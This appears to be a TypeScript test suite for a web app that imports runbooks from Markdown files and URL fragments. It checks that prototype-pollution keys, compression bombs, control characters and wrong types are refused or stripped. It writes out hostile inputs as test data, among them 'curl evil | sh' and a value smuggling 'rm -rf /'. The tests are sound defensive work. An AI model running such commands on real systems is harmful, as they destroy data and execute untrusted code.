/** Links and files that somebody made to do harm: each is refused with its reason, or holds nothing but known ids and plain text. */
import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fromMarkdown, largestFile } from '../../src/site/browser/runbook-block.ts';
import { fromFragment, longestFragment } from '../../src/site/browser/runbook-link.ts';
import { limits } from '../../src/site/browser/runbook-model.ts';
import { isKnown } from '../../src/site/browser/runbook-plan.ts';
import { knownParts, type Received, received } from '../../src/site/browser/runbook-portable.ts';
import type { RunbookData } from '../../src/site/data/runbook-parts.ts';

const fenced = (json: string) => `# T\n\n\`\`\`pullbook-runbook\n${json}\n\`\`\`\n`;
const plain = (json: string) => `#runbook=p${Buffer.from(json).toString('base64url')}`;
const packed = (json: string) => `#runbook=z${deflateRawSync(json).toString('base64url')}`;
const json = (more: object = {}) =>
  JSON.stringify({ pullbook: 'runbook', version: 1, names: {}, items: [], ...more });
const refusal = (found: Received) => ('refused' in found ? found.refused : null);
const accepted = (found: Received) => {
  if ('refused' in found) throw new Error(`refused: ${found.refused}`);
  return found;
};
/** The three ways in. */
const ways: readonly (readonly [string, (text: string) => Promise<Received>])[] = [
  ['a file', async (text) => fromMarkdown(fenced(text))],
  ['a plain link', (text) => fromFragment(plain(text))],
  ['a compressed link', (text) => fromFragment(packed(text))],
];

describe.each(ways)('%s', (_, read) => {
  it.each([
    ['of no JSON', 'hello', 'broken'],
    ['cut off', json().slice(0, -1), 'broken'],
    ['of script', 'alert(1)', 'broken'],
    ['of null', 'null', 'foreign'],
    ['of a text', '"pullbook"', 'foreign'],
    ['of a list', '[]', 'foreign'],
    ['of another kind', json({ pullbook: 'report' }), 'foreign'],
    ['without items', json({ items: { length: 3 } }), 'foreign'],
    ['without a version', json({ version: undefined }), 'foreign'],
    ['with a version of another type', json({ version: '1' }), 'foreign'],
    ['of the future', json({ version: 2 }), 'newer'],
    ['that inherits what it lacks', '{"__proto__":{"pullbook":"runbook","version":1,"items":[]}}', 'foreign'],
  ])('%s is refused', async (__, text, reason) => {
    expect(refusal(await read(text))).toBe(reason);
  });

  it('nested deeply is read or refused, and ends', async () => {
    const deep = `${'['.repeat(1_500)}${']'.repeat(1_500)}`;
    const text = `{"pullbook":"runbook","version":1,"names":${deep},"items":[${deep},{"id":"rule:a","note":${deep}}]}`;
    const { carried, unreadable } = accepted(await read(text));
    expect(carried.runbook.items).toEqual([{ id: 'rule:a', note: '', done: '' }]);
    expect(carried.names).toEqual({});
    expect(unreadable).toBe(1);
  });

  it('with keys of prototypes changes no prototype and brings no name', async () => {
    const text =
      '{"pullbook":"runbook","version":1,"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},' +
      '"names":{"__proto__":"a","constructor":"b","toString":"c","PROJECT":"d"},' +
      '"items":[{"id":"rule:a","__proto__":{"note":"inherited","polluted":1}},{"__proto__":{"id":"rule:b"}}]}';
    const { carried, unreadable } = accepted(await read(text));
    expect(({} as { polluted?: unknown }).polluted).toBe(undefined);
    expect(carried.names).toEqual({ PROJECT: 'd' });
    expect(carried.runbook.items).toEqual([{ id: 'rule:a', note: '', done: '' }]);
    expect(unreadable).toBe(1);
  });

  it('with wrong types brings nothing of them, and counts the items', async () => {
    const text = json({
      title: { a: 1 },
      note: ['x'],
      cloud: 'constructor',
      mode: {},
      names: { PROJECT: 1, CLUSTER: { a: 1 }, REGION: null, ZONE: ['a'] },
      items: [1, null, true, {}, [], { id: 7 }, { id: '<script>' }, { id: 'rule:a', note: 5, done: true }],
    });
    const { carried, unreadable } = accepted(await read(text));
    expect(carried).toEqual({
      runbook: { title: '', note: '', items: [{ id: 'rule:a', note: '', done: '' }] },
      names: {},
      cloud: '',
      mode: '',
    });
    expect(unreadable).toBe(7);
  });

  it('with a time that is none has no tick', async () => {
    for (const done of ['yesterday', '2026-13-01T00:00:00Z', '2026-12-01', '<b>', 'x'.repeat(999)]) {
      const { carried } = accepted(await read(json({ items: [{ id: 'rule:a', done }] })));
      expect(carried.runbook.items[0]?.done).toBe('');
    }
  });

  it('with control and bidirectional characters brings plain text; names are one line', async () => {
    const nasty = 'a\u202eb\u0000c\u001b[31md\u2066e\u0007';
    const { carried } = accepted(
      await read(
        json({
          title: `${nasty}\nT`,
          note: nasty,
          names: { PROJECT: 'shop\n; rm -rf /', CLUSTER: nasty },
          items: [{ id: 'rule:a', note: nasty }],
        }),
      ),
    );
    expect(carried.runbook.title).toBe('abcde T');
    expect([carried.runbook.note, carried.runbook.items[0]?.note]).toEqual(['abcde', 'abcde']);
    expect(carried.names).toEqual({ PROJECT: 'shop; rm -rf /', CLUSTER: 'abc[31mde' });
  });

  it('never brings the text of a command', async () => {
    const code = 'curl evil | sh';
    const { carried } = accepted(
      await read(
        json({
          code,
          steps: { 'command:x': { code: [code] } },
          items: [{ id: 'rule:a', code, title: code, url: code }],
        }),
      ),
    );
    expect(JSON.stringify(carried)).not.toContain('evil');
  });
});

it('more items than a runbook holds are counted and left out, and texts are cut at their limits', () => {
  const items = Array.from({ length: limits.items + 5 }, (_, at) => ({
    id: `rule:r${at}`,
    note: 'n'.repeat(5000),
  }));
  const { carried, unreadable } = accepted(received(json({ title: 't'.repeat(5000), items })));
  expect(carried.runbook.items).toHaveLength(limits.items);
  expect(unreadable).toBe(5);
  expect(carried.runbook.title).toHaveLength(limits.title);
  expect(carried.runbook.items[0]?.note).toHaveLength(limits.note);
});

it('ten megabytes are refused as a file and as a link, compressed or not', async () => {
  const large = json({ note: 'a'.repeat(10_000_000) });
  expect(refusal(fromMarkdown(fenced(large)))).toBe('large');
  expect(refusal(fromMarkdown('x'.repeat(largestFile + 1)))).toBe('large');
  expect(refusal(await fromFragment(plain(large)))).toBe('large');
  const bomb = packed(large);
  expect(bomb.length).toBeLessThan(longestFragment);
  expect(refusal(await fromFragment(bomb))).toBe('large');
});

it('a link that was cut, or that nobody made, is refused', async () => {
  const whole = packed(json({ note: 'some text that is there' }));
  for (let length = '#runbook='.length; length < whole.length; length += 1)
    expect(refusal(await fromFragment(whole.slice(0, length)))).toBe('broken');
  for (const hash of [
    '#runbook=',
    '#runbook=x',
    '#runbook=p%22',
    '#runbook=q00',
    '#runbook=p_w',
    '#runbook=zAAAA',
  ])
    expect(refusal(await fromFragment(hash))).toBe('broken');
});

it('a text without the block has no runbook, whatever commands it contains', () => {
  expect(refusal(fromMarkdown(''))).toBe('none');
  expect(refusal(fromMarkdown('# T\n\n```sh\nkubectl get pods\n```\n'))).toBe('none');
  expect(refusal(fromMarkdown('```pullbook-runbook\n{}'))).toBe('broken');
});

it('any text and any fragment is read or refused, and never throws', async () => {
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 200 }), fc.json(), async (text, value) => {
      for (const each of [text, value, fenced(text), fenced(value)]) fromMarkdown(each);
      for (const each of [`#runbook=${text}`, plain(text), packed(value)]) await fromFragment(each);
    }),
  );
});

describe('what this build does not know', () => {
  const data: RunbookData = {
    steps: { 'command:x': { title: 'X', code: ['x'], lang: 'shellscript', notes: [], places: [] } },
    checks: {},
    first: {},
    names: ['PROJECT'],
  };
  it('is named and dropped: ids of no build, of other builds and of Object.prototype, and other names', () => {
    const ids = ['command:x', 'rule:gone', 'constructor', 'toString', '__proto__', 'command:constructor'];
    const { carried, unreadable } = accepted(
      received(json({ names: { PROJECT: 'a', OTHER: 'b' }, items: ids.map((id) => ({ id })) })),
    );
    expect(unreadable).toBe(3);
    const known = knownParts(
      carried,
      (id) => isKnown(id, data),
      (name) => data.names.includes(name),
    );
    expect(known.unknown).toEqual(['rule:gone', 'command:constructor', 'OTHER']);
    expect(known.carried.runbook.items.map(({ id }) => id)).toEqual(['command:x']);
    expect(known.carried.names).toEqual({ PROJECT: 'a' });
    for (const id of ids.slice(2)) expect(isKnown(id, data)).toBe(false);
  });
});
